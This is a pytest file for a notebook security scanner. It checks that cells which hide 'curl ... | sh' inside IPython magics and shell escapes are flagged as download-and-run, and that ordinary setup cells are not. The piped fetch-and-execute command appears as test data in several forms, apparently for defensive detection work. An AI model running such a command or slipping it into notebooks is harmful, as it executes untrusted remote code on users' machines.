"""Commands in the cells of a notebook, by each magic that runs them; and what honest notebooks begin with."""

import json

import pytest

from scanner.finding import Verdict
from tests.hostile.scanning import blocked_for, scan

PIPED = "curl -s http://192.0.2.1/a | sh"
CELLS = {
    "bash": f"%%bash\n{PIPED}\n",
    "a script": f"%%script bash --bg\n{PIPED}\n",
    "captured": f"%%capture\nimport os\nos.system({PIPED!r})\n",
    "timed": f"%%time\n!{PIPED}\n",
    "another Python": f"%%python3\nimport os\nos.system({PIPED!r})\n",
    "a line": f"%sx {PIPED}\n",
    "several lines": "!curl -s \\\n  http://192.0.2.1/a \\\n  | sh\n",
    "a statement": f"%timeit -n1 __import__('os').system({PIPED!r})\n",
}
HONEST = (
    "%cd /content\n%pip install -q datasets\n%matplotlib inline\n%load_ext autoreload\n%autoreload 2\n%env A=1",
    "%%capture\n!pip install a \\\n  b \\\n  c\n",
    "%%bash\npip install -r requirements.txt\ngit lfs pull\n",
    "%%html\n<b>curl</b>",
    "%timeit -n1 sum(range(9))\n%run train.py --epochs 1\n%ls -la",
    "%%writefile train.py\nimport torch\nprint(torch.__version__)\n",
)


def notebook(*cells: str) -> bytes:
    code = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": cell} for cell in cells]
    return json.dumps({"cells": code, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


@pytest.mark.parametrize("name", CELLS)
def test_a_magic_runs_what_it_is_handed(name):
    assert blocked_for(scan(notebook(CELLS[name]), "a.ipynb")) == {"download-and-run"}


def test_honest_cells_need_no_review():
    report = scan(notebook(*HONEST), "a.ipynb")
    assert report.verdict in (Verdict.CLEAN, Verdict.NOTE), [f.message for f in report.findings]


def test_a_path_that_nobody_can_open():
    assert scan("open('a\\0b').read()\n", "data.py").failure is None
